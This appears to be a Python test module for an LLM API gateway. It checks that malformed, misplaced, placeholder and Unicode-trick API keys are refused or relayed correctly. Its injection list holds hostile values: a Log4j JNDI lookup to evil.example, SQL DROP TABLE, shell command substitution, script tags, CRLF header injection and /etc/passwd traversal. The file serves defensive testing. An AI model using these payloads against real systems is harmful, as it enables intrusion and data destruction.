"""Keys that are none, or more than a key."""

from base64 import b64encode
from itertools import product

from attacks.attack import NOT_HTTP, Attack, each, get, on, post, refused, relayed
from attacks.words import ACME_CHAT, BEARER, FROM_PAGE, GEMINI, LOCAL_CHAT, MISTRAL_CHAT, MODELS, OPENAI_CHAT, OWN
from differences import PASSES_CONTROL_CHARACTERS, TAKES_LONG_HEADERS
from providers import CHAT

# What an `Authorization` may be that is not a Bearer token (RFC 6750 section 2.1). Nothing of it is a key.
NO_BEARER_TOKENS = {
    "Basic": ("Basic {mark}", "CVE-2026-47673 Hono"),
    "Basic, with the key for a password": (f"Basic {b64encode(b':{mark}').decode()}", None),
    "Digest": ('Digest username="{mark}", response="{mark}"', None),
    "Negotiate": ("Negotiate {mark}", None),
    "Token": ("Token {mark}", None),
    "ApiKey": ("ApiKey {mark}", None),
    "AWS's signature": ("AWS4-HMAC-SHA256 Credential={mark}/20261123/us-east-1/bedrock/aws4_request", None),
    "GoogleLogin": ("GoogleLogin auth={mark}", None),
    "DPoP": ("DPoP {mark}", None),
    "no scheme": ("sk-{mark}", None),
    "Bearer and nothing": ("Bearer", None),
    "Bearer and spaces": ("Bearer    ", None),
    "Bearer and a tab": ("Bearer\tsk-{mark}", None),
    "Bearer and a colon": ("Bearer: sk-{mark}", None),
    "Bearer and no space": ("Bearersk-{mark}", None),
    "Bearer in quotes": ('"Bearer sk-{mark}"', None),
    "Bearer as a parameter": ("Basic x, Bearer sk-{mark}", None),
    "Bearer with a letter that only looks like one": ("\u0412earer sk-{mark}".encode().decode("latin-1"), None),
    "nothing": ("", None),
}

# Where a key may stand that no provider's SDK puts it. It is not looked for there, nor sent on.
NO_CARRIERS = {
    "x_api_key: {mark}": "CVE-2025-64484 oauth2-proxy",
    "X-Api_Key: {mark}": None,
    "X-API-Key.: {mark}": None,
    "XAPIKey: {mark}": None,
    "Cookie: api_key={mark}; authorization=Bearer%20{mark}": None,
    "Proxy-Authorization: Bearer {mark}": None,
    "X-Authorization: Bearer {mark}": None,
    "X-Forwarded-Authorization: Bearer {mark}": None,
    "X-Original-Authorization: Bearer {mark}": None,
    "X-Auth-Token: {mark}": None,
    "apikey: {mark}": None,
    "Ocp-Apim-Subscription-Key: {mark}": None,
    "OpenAI-API-Key: {mark}": None,
    "X-Portkey-API-Key: {mark}": None,
    "Helicone-Auth: Bearer {mark}": None,
    "cf-aig-authorization: Bearer {mark}": None,
    "Sec-WebSocket-Protocol: realtime, openai-insecure-api-key.{mark}": None,
    "Referer: https://app.example/?api_key={mark}": None,
}

# No key, in one way or another -> what is sent for one, where keys have no beginning of their own.
NO_KEYS = {
    "7 characters": "sk-1234",
    "4,097 characters": "{mark}" + "x" * (4097 - 22),
    "12,000 characters": "{mark}" + "x" * (12_000 - 22),
    "a space": "sk-{mark} x",
    "a comma": "sk-{mark},x",
    "a tab": "sk-{mark}\tx",
    "a space and a statement": "sk-{mark}' OR 1=1 --",
    "another scheme before it": "Bearer sk-{mark}",
    "a smart quote": "sk-{mark}\u201d",
    "a byte-order mark": "\ufeffsk-{mark}",
    "a space of no width": "sk-\u200b{mark}",
    "a dash that is none": "sk\u2011{mark}",
    "letters of full width": "\uff53\uff4b-{mark}",
    "a reversed direction of writing": "sk-{mark}\u202e",
    "a digit of another script": "sk-{mark}\u0661",
    "an ellipsis": "sk-{mark}\u2026",
    "half a character": "sk-{mark}\udcc3",
    "a byte that no UTF-8 has": "sk-{mark}\udcff",
    "a slash of two bytes": "sk-{mark}\udcc0\udcaf",
    "a surrogate": "sk-{mark}\udced\udca0\udc80",
}

# Copied out of a manual, or left by a template that was not filled in.
PLACEHOLDERS = """sk-... YOUR_API_KEY <your-api-key> ${OPENAI_API_KEY} {{api_key}} undefined [object-Object] process.env.KEY""".split()

# A key is never part of a format, a statement, a template or a command. Where its form is not checked, it goes up as it is.
INJECTIONS = {
    "a format of C": "%s%n%999999d",
    "formats of C and Python": "%s%d{0}",
    "a format of Python": "{0.__class__.__init__.__globals__.x}",
    "an f-string": "{settings!r:>999999}",
    "a lookup of Log4j": "${jndi:ldap://evil.example/a}",
    "a template": "{{7*7}}<%=7*7%>#{7*7}",
    "a statement of SQL": "';DROP/**/TABLE/**/keys;--",
    "the end of an object": '"}]}',
    "a command": "$(id)`id`|id&id;id",
    "a script": "</script><script>alert(1)</script>",
    "a line break, encoded": "%0d%0aHost:%20evil.example",
    "a line break, escaped": "\\r\\nHost:evil.example",
    "a NUL, encoded": "%00",
    "a way up": "/../../etc/passwd",
    "a wildcard": "*?[a-z]^$",
}

# What has no form of this provider's keys -> what is sent for one.
OTHER_FORMS = {
    "openai": {"in capitals": "SK-{mark}", "without a beginning": "{mark}", "with a slash": "sk-{mark}/x", "with a dot": "sk-{mark}.x"},
    "anthropic": {
        "another's": "sk-{mark}",
        "in capitals": "SK-ANT-{mark}",
        "with a dot": "sk-ant-{mark}.x",
        "in quotes": "'sk-ant-{mark}'",
    },
    "google": {"in small letters": "aiza{mark}", "without a beginning": "{mark}", "with a percent sign": "AIza%2d{mark}"},
    "mistral": {"with a dash": "{mark}-x", "with an underscore": "{mark}_x", "with a colon": "mistral:{mark}", "in quotes": '"{mark}"'},
}

# And the beginnings that it does have.
BEGINNINGS = {
    "openai": ("sk-canary", "sk-proj-canary_-", "sk-svcacct-canary", "ek_canary"),
    "anthropic": ("sk-ant-api03-canary_-", "sk-ant-oat01-canary"),
    "google": ("AIzaCanary_-", "AQ.canary.x", "ya29.canary.x"),
    "mistral": ("canary",),
}

# Control characters inside a key. An HTTP server may refuse them (RFC 9110 section 5.5); what it lets through is no key.
CONTROL_CHARACTERS = {"a bell": "\x07", "an escape sequence": "\x1b[31m", "a DEL": "\x7f", "a form feed": "\x0c"}

# What looks like space at the end of a key. HTTP knows the space and the tab (RFC 9110 section 5.6.3); the rest is part of the key.
SPACES = {"a no-break space": "\u00a0", "a next line": "\u0085", "an em space": "\u2003", "an ideographic space": "\u3000"}


def as_bytes(text: str) -> str:
    """Text as UTF-8, a byte a character: that is what goes into a header. Lone surrogates stand for bytes that are no UTF-8."""
    return text.encode("utf-8", "surrogateescape").decode("latin-1")


# Keys of so many characters that no other test has: of letters that are in no random key, each of them once.
SHORT = {length: product("ghijklmnopqrstuvwxyz", repeat=length) for length in (1, 2, 3, 7, 8)}

MALFORMED = refused("key_malformed")

ATTACKS = [
    Attack("no key", post(OPENAI_CHAT), refused("missing_key")),
    *(
        Attack(f"for a Bearer token: {name}", post(OPENAI_CHAT, f"Authorization: {value}"), refused("missing_key"), incident=whose)
        for name, (value, whose) in NO_BEARER_TOKENS.items()
    ),
    *(
        Attack(f"for a carrier: {line.partition(':')[0]}", post(OPENAI_CHAT, line), refused("missing_key"), incident=whose)
        for line, whose in NO_CARRIERS.items()
    ),
    Attack("for a carrier: the body", post(OPENAI_CHAT, body='{"api_key": "{mark}", "key": "{mark}"}'), refused("missing_key")),
    *each(MALFORMED, {f"with {name}": post(MISTRAL_CHAT, as_bytes(f"X-API-Key: {key}")) for name, key in NO_KEYS.items()}),
    *each(
        on(PASSES_CONTROL_CHARACTERS, MALFORMED, NOT_HTTP),
        {f"with {name}": post(MISTRAL_CHAT, f"X-API-Key: {{mark}}{character}x") for name, character in CONTROL_CHARACTERS.items()},
    ),
    *each(MALFORMED, {f"with {name} at its end": post(OPENAI_CHAT, as_bytes(BEARER + space)) for name, space in SPACES.items()}),
    *each(on(TAKES_LONG_HEADERS, MALFORMED, NOT_HTTP), {"of 100,000 characters": post(MISTRAL_CHAT, "X-API-Key: {mark}" + "x" * 100_000)}),
    Attack("of 8 characters", post(MISTRAL_CHAT, OWN), relayed(MISTRAL_CHAT), key=lambda key: key[-8:]),
    Attack("of 4,096 characters", post(OPENAI_CHAT, OWN), relayed(OPENAI_CHAT), key=lambda key: key.ljust(4096, "x")),
    *each(MALFORMED, {f"a placeholder, {key}": post(OPENAI_CHAT, f"X-API-Key: {key}") for key in PLACEHOLDERS}),
    *(
        Attack(
            f"that ends in {name}{where}",
            post(path, BEARER, FROM_PAGE),
            expected,
            settings,
            key=lambda key, end=end: key + end,
            incident="CVE-2026-42208 LiteLLM" if "SQL" in name else None,
        )
        for name, end in INJECTIONS.items()
        for where, path, settings, expected in (
            ("", OPENAI_CHAT, "open", refused("key_malformed")),
            (", where forms are not checked", OPENAI_CHAT, "listed", relayed(OPENAI_CHAT, authorization="Bearer {key}")),
            (", at a custom provider", ACME_CHAT, "custom", relayed(OPENAI_CHAT, authorization="Bearer {key}")),
        )
    ),
    *(
        Attack(f"of {provider} that is {name}", post(CHAT[provider], f"X-API-Key: {key}"), refused("key_malformed", provider))
        for provider, forms in OTHER_FORMS.items()
        for name, key in forms.items()
    ),
    *(
        Attack(
            f"of {provider} that begins with {begin}",
            post(CHAT[provider], BEARER),
            relayed(CHAT[provider]),
            key=lambda key, begin=begin: f"{begin}{key[-26:]}",
        )
        for provider, beginnings in BEGINNINGS.items()
        for begin in beginnings
    ),
    *(
        Attack(
            f"of {length} characters at a custom provider that says so",
            post(LOCAL_CHAT, OWN),
            relayed(OPENAI_CHAT, authorization="Bearer {key}"),
            "custom",
            key=lambda _key, unused=unused: "".join(next(unused)),
        )
        for length, unused in SHORT.items()
    ),
    Attack(
        "that is an access token with three dots, and no sealed key",
        post(GEMINI, OWN),
        relayed(GEMINI, authorization="Bearer {key}"),
        key=lambda key: f"ya29.c.{key}{'x' * 100}.",
    ),
    Attack(
        "of 6 characters that is a word of the query, at a custom provider that says so",
        get("/acme-local/v1/models?a={key}", OWN),
        relayed(f"{MODELS}?a={{key}}", authorization="Bearer {key}"),
        "custom",
        key=lambda key: key[-6:],
    ),
    Attack("of 7 characters at a custom provider that does not say so", post(ACME_CHAT, "X-API-Key: sk-1234"), MALFORMED, "custom"),
    Attack("of 0 characters at a custom provider that says so", post(LOCAL_CHAT, "X-API-Key:"), refused("missing_key"), "custom"),
]
